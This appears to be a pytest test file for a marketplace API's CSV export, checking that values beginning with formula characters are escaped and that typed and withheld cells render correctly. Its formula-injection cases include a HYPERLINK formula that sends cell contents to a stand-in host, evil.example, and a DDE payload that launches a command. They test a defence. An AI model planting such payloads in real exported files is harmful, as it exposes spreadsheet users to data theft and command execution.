import csv
import io

import pytest

from marketplace_api.spreadsheets import as_csv


def release(value, kind="string", name="key", withheld=()):
    return {
        "columns": [{"name": name, "type": kind, "error": ""}],
        "rows": [[value]],
        "withheld": {"cells": list(withheld), "below_threshold": None, "dominated": 0},
    }


def cell(value, kind="string"):
    return list(csv.reader(io.StringIO(as_csv(release(value, kind)))))[1][0]


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\uff1d1+1",
        '=HYPERLINK("http://evil.example?x="&A1,"ok")',
        "=cmd|' /C calc'!A0",
    ],
)
def test_formula_injection(text):
    assert cell(text) == f"'{text}"


def test_formula_in_heading():
    assert as_csv(release(1, "integer", name="=1+1")).startswith("'=1+1")


@pytest.mark.parametrize(
    ("value", "kind", "shown"),
    [
        (-5, "integer", "-5"),
        ("-12.50", "decimal", "-12.50"),
        ("90071992547409930", "integer", "90071992547409930"),
        (0.5, "float", "0.5"),
        (True, "boolean", "true"),
        ("2026-01-01", "date", "2026-01-01"),
        ('a "b", c', "string", 'a "b", c'),
        ("(withheld)", "string", "(withheld)"),
        (None, "integer", ""),
    ],
)
def test_value_stays_what_it_is(value, kind, shown):
    assert cell(value, kind) == shown


def test_withheld_is_not_null():
    assert as_csv(release(None, "integer", withheld=[[0, 0]])) == "key\r\n(withheld)\r\n"
